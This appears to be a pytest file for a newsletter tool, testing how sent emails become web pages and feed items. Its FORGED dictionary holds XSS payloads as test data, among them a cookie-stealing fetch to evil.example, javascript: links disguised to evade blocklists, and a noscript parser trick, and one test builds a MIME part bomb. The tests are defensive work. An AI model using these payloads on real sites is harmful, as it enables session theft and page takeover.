    entry.write_text(entry.read_text().replace("https://example.com/second", "http://example.com/second"))
    build(root, WEEK)
    send(root, WEEK, yes=True, env={})
    server.__exit__(None, None, None)
    _ledger_without_entries(root)
    entry.write_text(entry.read_text().replace("http://example.com/second", "https://example.com/second"))
    assert "added to" not in built(root)


@pytest.mark.parametrize(
    "html", ["<p>日本語のノート、長い。</p>\n" * 300, "<p>From the archives: café = 1\r\n</p>\n" * 300]
)
def test_the_html_of_the_copy_as_sent_is_the_html_the_build_wrote(tmp_path, html):
    """The web page of an emailed edition is made of its copy as sent's HTML part, read back as
    the build wrote it, in base64 (a Japanese edition's) or quoted-printable (an English one's)."""
    import email
    import email.policy

    from newsletter.delivery.as_sent import copy_html
    from newsletter.delivery.copy_as_sent import CopyAsSent
    from newsletter.formats import mime_body

    boundary = "==newsletter-0123456789abcdef=="
    (tmp_path / "sent.eml").write_bytes(
        f'MIME-Version: 1.0\r\nContent-Type: multipart/alternative;\r\n boundary="{boundary}"\r\n\r\n'.encode()
        + mime_body.part(boundary, "plain", "The text.")
        + b"\r\n"
        + mime_body.part(boundary, "html", html)
        + f"\r\n--{boundary}--\r\n".encode()
    )
    message = email.message_from_bytes((tmp_path / "sent.eml").read_bytes(), policy=email.policy.default)
    assert message.get_body(("html",))["Content-Transfer-Encoding"] == (
        "base64" if "日本" in html else "quoted-printable"
    )
    assert copy_html(CopyAsSent(tmp_path)) == html.replace("\r\n", "\n").removesuffix("\n")


def test_another_editions_copy_as_sent_is_not_this_weeks_page(tmp_path):
    """A sent.eml of another edition in the week's folder (a folder copied to start the next, a
    restore into the wrong one) became the week's page on the web, and its editions-feed item:
    another week's subject, entries and links at this week's address (review 22). Its Message-ID
    names the edition it is: one naming another is no copy of this week's, and the page stays as
    sent (with a link to the week after it, now there is one)."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    page = root / "site" / "static" / "newsletter" / WEEK / "index.html"
    as_sent = page.read_text()
    other = "2021-W07"
    write_entry(root, "next", 16, "A talk of the next week")
    built(root, other)
    copy = root / "dist" / WEEK / "sent.eml"
    copy.write_bytes((root / "dist" / other / "newsletter.eml").read_bytes())
    write_entry(root, "late", 12, "A late talk")
    built(root)
    shown = page.read_text()
    assert "A talk of the next week" not in shown and "A late talk" not in shown
    assert '<li>Next: <a rel="next" href="../2021-W07/">' in shown

    def without_next(html: str) -> str:
        return re.sub(r"<li>Next: .*?</li>", "", html)

    assert without_next(shown) == without_next(as_sent)


def test_a_ledger_from_before_the_entries_were_recorded_names_none_by_another_editions_copy(tmp_path):
    """A week sent by an earlier version (its ledger lists no entries) with another week's sent.eml
    in its folder named every entry of the week as added after it was emailed, each told to move
    to a week not sent yet (review 22): none of its links is in another week's message. A copy
    whose Message-ID names another edition tells nothing of this one's, as none kept does not."""
    root, server = sent_week(tmp_path)
    server.__exit__(None, None, None)
    path = root / ".newsletter" / "ledger" / f"{WEEK}.json"
    data = ledger(root)
    del data["entries"]
    path.write_text(json.dumps(data))
    write_entry(root, "next", 16, "A talk of the next week")
    built(root, "2021-W07")
    (root / "dist" / WEEK / "sent.eml").write_bytes((root / "dist" / "2021-W07" / "newsletter.eml").read_bytes())
    output = built(root)
    assert f"{WEEK} was already sent via smtp on " in output and "added to" not in output, output


def test_a_list_message_checked_as_arrived_after_a_rebuild_keeps_what_went_out(tmp_path, monkeypatch):
    """A run handed the month to the list address and died before recording it; a late talk was
    written up and the month rebuilt, and the author, having seen the message in the list's
    archive, ran `send --uncertain-received --yes`. The talk, which no reader got, was recorded as
    emailed to all (never named as late, so never emailed), and the rebuild kept as the copy as
    sent and put on the edition's web page: an edition nobody got."""
    with SmtpServer() as server:
        root = workspace(tmp_path, server.settings())
        crash_at(monkeypatch, "done", "smtp.send")
        with pytest.raises(SystemExit):
            send(root, PERIOD, yes=True, env={})
        monkeypatch.undo()
        write_entry(root, "late", 20, "A late talk")
        build(root)
        result = send(root, PERIOD, yes=True, uncertain_received=True, env={})
        assert len(server.received) == 1 and b"A late talk" not in server.received[0].data
    assert "A late talk" not in "\n".join(result.lines)
    assert result.warnings == [
        f"{PERIOD} was rebuilt since the run that sent it to the list, so this build is not what the list got "
        f"and is not kept as the copy as sent in dist/{PERIOD}/sent.eml: the list's archive has the message "
        "as it went out."
    ]
    recorded = json.loads((root / ".newsletter" / "ledger" / f"{PERIOD}.json").read_text())["entries"]
    assert recorded == ["entries/2021/02/first.md", "entries/2021/02/second.md"]
    copy = root / "dist" / PERIOD / "sent.eml"
    assert not copy.exists() or b"A late talk" not in copy.read_bytes()
    page = root / "site" / "static" / "newsletter" / PERIOD / "index.html"
    assert "A late talk" not in page.read_text(encoding="utf-8")
    assert "entries/2021/02/late.md: added to 2021-02 after it was emailed" in built(root, PERIOD)


def clone_without_the_ledger(root: Path, clone: Path) -> Path:
    """Another clone of the log `root` keeps, as git gives it: no .newsletter/ (the ledger, the
    cache) and of dist/ only each edition's sent.eml, as init's .gitignore has it."""
    import shutil

    shutil.copytree(root, clone, ignore=shutil.ignore_patterns(".newsletter"))
    for output in (clone / "dist").glob("*/*"):
        if output.name != "sent.eml":
            output.unlink()
    return clone


def pull_site(source: Path, into: Path) -> None:
    """`git pull` of the other clone's site/ (its static/ pages and feeds, committed)."""
    import shutil

    shutil.copytree(source / "site", into / "site", dirs_exist_ok=True)


def test_a_clone_without_the_ledger_builds_the_emailed_week_as_the_clone_that_sent_it(tmp_path):
    """New user 53's two clones of one log, one of which sends: after the week went out and a
    late talk was written up, the clone without the ledger built the week's item in the editions
    feed (and its page, where it had none) with the talk, the other without it, so each build
    after pulling the other's site changed the item back and set its `updated` to now (review
    35). The committed copy as sent says what went out: both build the same feed and page."""
    root, server = sent_week(tmp_path / "sent-here")
    try:
        write_entry(root, "late", 12, "A late talk")
        built(root, PERIOD)  # (the month, not emailed, has it: the feeds hold both editions)
        built(root)
        other = clone_without_the_ledger(root, tmp_path / "other")
        (other / "site" / "static" / "newsletter" / WEEK / "index.html").unlink()  # (never pulled yet)
        built(other, PERIOD)  # (the month too, which the feeds hold: each clone builds both)
        built(other)
        feeds, page = Path("site/static/feeds/editions.json"), Path(f"site/static/newsletter/{WEEK}/index.html")
        assert "A late talk" not in (other / page).read_text()
        assert week_items(other / feeds.parent) == week_items(root / feeds.parent)
        for _ in range(2):  # each pulls the other's site and builds: nothing changes
            pull_site(other, root)
            built(root)
            pull_site(root, other)
            built(other)
        assert (other / feeds).read_bytes() == (root / feeds).read_bytes()
        assert (other / page).read_bytes() == (root / page).read_bytes()
        [item] = week_items(root / feeds.parent)
        assert "A late talk" not in json.dumps(item) and "date_modified" not in item
    finally:
        server.__exit__(None, None, None)


def test_a_clone_without_the_ledger_dates_the_emailed_edition_as_sent_when_a_late_entry_dates_its_post(
    tmp_path, monkeypatch
):
    """An edition sent before its period was over is dated by its latest entry: a late talk dated
    the 20th dated the post, and the clone without the ledger, whose builds all hold it, gave the
    editions feed's item the 20th, where the clone that sent it says the 14th it went out with."""
    import datetime as dt

    from newsletter import render

    def in_progress(edition, settings):  # (today in its period: dated by its latest entry)
        return dt.datetime.combine(max(e.date for e in edition.entries), dt.time(0), tzinfo=dt.UTC)

    monkeypatch.setattr(render, "publication_date", in_progress)
    with SmtpServer() as server:
        root = workspace(tmp_path / "sent-here", server.settings())
        send(root, PERIOD, yes=True, env={})
    write_entry(root, "late", 20, "A late talk")
    built(root, PERIOD)
    other = clone_without_the_ledger(root, tmp_path / "other")
    built(other, PERIOD)
    feeds = Path("site/static/feeds/editions.json")
    [item] = json.loads((other / feeds).read_text())["items"]
    assert item["date_published"].startswith("2021-02-14") and "A late talk" not in item["content_html"]
    assert (other / feeds).read_bytes() == (root / feeds).read_bytes()


FORGED = {
    "a script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "an on* attribute": '<img src="https://example.com/x.png" alt="" width="1" onerror="alert(1)">',
    "a javascript: link": '<a href=" javascript:alert(1)">The first article</a>',
    "a frame": '<iframe src="https://evil.example/"></iframe>',
    "a CSS expression": '<p style="width: expression(alert(1))">x</p>',
    # read as a browser reads them (attack 34): each passed a blocklist of the text as written
    "a javascript: link split by a tab": '<a href="jav&#x09;ascript:alert(1)">The first article</a>',
    "a control character before javascript:": '<a href="&#x01;javascript:alert(1)">The first article</a>',
    "a noscript a browser reads otherwise": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "an escaped CSS import": "<style>@\\69mport url(https://evil.example/x.css);</style>",
    "a refresh spaced": '<meta http-equiv=" Refresh" content="0;url=https://evil.example/">',
}


@pytest.mark.parametrize("forged", [*FORGED, "damaged", "cut short"])
def test_a_pulled_copy_as_sent_forged_or_damaged_neither_crashes_nor_reaches_the_page(tmp_path, forged):
    """The copy as sent a clone without the ledger goes by came from git: one holding what runs
    in a browser (which no email of ours has) is no copy, so it never becomes the edition's page
    on the web; one damaged or cut short is none either, and the build goes on."""
    from email.message import EmailMessage

    root, server = sent_week(tmp_path / "sent-here")
    try:
        other = clone_without_the_ledger(root, tmp_path / "other")
    finally:
        server.__exit__(None, None, None)
    copy = other / "dist" / WEEK / "sent.eml"
    if forged == "damaged":
        copy.write_bytes(bytes(range(256)) * 64)
    elif forged == "cut short":
        copy.write_bytes(copy.read_bytes()[: len(copy.read_bytes()) // 2])
    else:
        message = EmailMessage()
        message["Message-ID"] = f"<{WEEK}.0123456789abcdef@example.com>"
        message["Subject"] = "Test Letter"
        message.set_content("https://example.com/second")
        body = f'<p><a href="https://example.com/second">The second article</a></p>{FORGED[forged]}'
        message.add_alternative(f"<!DOCTYPE html><html><body>{body}</body></html>", subtype="html")
        copy.write_bytes(message.as_bytes())
    page = other / "site" / "static" / "newsletter" / WEEK / "index.html"
    page.unlink()
    built(other)
    shown = page.read_text()
    assert "The second article" in shown
    for said in ("evil.example", "alert(", "javascript:", "onerror"):
        assert said not in shown


@pytest.mark.parametrize("date", ["Fri, 31 Dec 9999 23:59:59 +0000", "Mon, 01 Jan 0001 00:00:00 +0000"])
def test_a_pulled_copy_as_sent_dated_far_off_does_not_date_the_edition(tmp_path, date):
    """A copy as sent whose Date no send of the week has (forged, or a clock gone wrong) dated
    the week's editions-feed item, and each Atom feed's `updated`, to the year 9999 (attack 34):
    the week is dated as a build dates it, its latest entry's day."""
    root, server = sent_week(tmp_path / "sent-here")
    try:
        other = clone_without_the_ledger(root, tmp_path / "other")
    finally:
        server.__exit__(None, None, None)
    copy = other / "dist" / WEEK / "sent.eml"
    copy.write_bytes(re.sub(rb"^Date:[^\r\n]*", f"Date: {date}".encode(), copy.read_bytes(), count=1, flags=re.M))
    built(other)
    feeds = other / "site" / "static" / "feeds"
    [item] = json.loads((feeds / "editions.json").read_text())["items"]
    assert item["date_published"].startswith("2021-02-14")
    assert "9999-" not in (feeds / "editions.xml").read_text() and "0001-" not in (feeds / "editions.xml").read_text()


def test_a_pulled_copy_as_sent_of_more_parts_than_any_email_is_no_copy(tmp_path):
    """A copy of 100,000 empty MIME parts in 3.9 MB, under the size a copy may have, took every
    build of its edition 5.3 s in the email package (attack 35, in a copy of the example
    workspace). Every part opens with a line beginning "--", and an email of ours has a handful:
    a copy with more than a thousand is no copy, not parsed, and its page is not the edition's."""
    from email.message import EmailMessage

    root, server = sent_week(tmp_path / "sent-here")
    try:
        other = clone_without_the_ledger(root, tmp_path / "other")
    finally:
        server.__exit__(None, None, None)
    message = EmailMessage()
    message["Message-ID"] = f"<{WEEK}.0123456789abcdef@example.com>"
    message["Subject"] = "Test Letter"
    message.set_content("https://example.com/second")
    body = '<p><a href="https://example.com/second">The second article</a>, as the copy has it</p>'
    message.add_alternative(f"<!DOCTYPE html><html><body>{body}</body></html>", subtype="html")
    data, boundary = message.as_bytes(), message.get_boundary().encode()
    close = data.rindex(b"--" + boundary + b"--")
    many = (
        data[:close] + (b"--" + boundary + b"\r\n\r\n\r\n") * 80_000 + data[close:]
    )  # (3.5 MB: under the 4 MB a copy may have)
    (other / "dist" / WEEK / "sent.eml").write_bytes(many)
    page = other / "site" / "static" / "newsletter" / WEEK / "index.html"
    page.unlink()
    built(other)
    assert "as the copy has it" not in page.read_text()
